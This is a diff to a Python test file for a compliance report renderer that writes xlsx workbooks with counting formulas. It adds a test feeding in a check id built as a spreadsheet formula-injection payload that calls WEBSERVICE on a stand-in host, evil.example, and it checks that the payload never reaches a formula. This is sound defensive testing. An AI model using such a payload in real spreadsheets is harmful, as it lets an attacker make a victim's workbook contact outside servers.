@@ -23,7 +23,7 @@ from reporter.report.columns import KEPT
 from reporter.report.model import ChangeRow, WaiverRow, WaiverState
 from reporter.report.render import render
 from reporter.report.words import RESULTS as STATUSES_AND_MORE
-from reporter.runs import RequirementRecord
+from reporter.runs import AnswerRecord, RequirementRecord
 from tests.conftest import Golden
 from tests.report.runs import account, finding, framework, report_of, rule, sample, small_report
 
@@ -181,6 +181,15 @@ def test_the_formulas_count_what_stands_in_the_findings_and_add_what_only_the_fr
     assert failing == [1, '=COUNTIFS(Findings[Check],"s3-bucket-closed",Findings[Status],"Fail")', 0]
     assert results[0] == '=IF(Controls[[#This Row],[Failing]]>0,"Fail","Not assessed")'
     assert results[2] == "Not automated"
+
+
+def test_a_check_whose_id_is_none_becomes_no_part_of_a_formula(tmp_path: Path) -> None:
+    odd = '",A1)+WEBSERVICE("https://evil.example'
+    requirement = RequirementRecord(id="1", title="Odd", answers=(AnswerRecord(check_id=odd),))
+    run = {"accounts": [account("012345678901")], "rules": [rule(odd)], "frameworks": (framework(requirement),)}
+    report = report_of(tmp_path, **run, findings=[finding(odd, "012345678901", Status.FAIL)])
+    [file] = render(report, ["xlsx"], tmp_path)
+    assert column(load_workbook(file)["Controls"], "Failing") == [1]
 
 
 def test_the_pivot_counts_the_findings_when_it_is_opened_and_keeps_no_copy_of_them(workbook: Workbook) -> None:
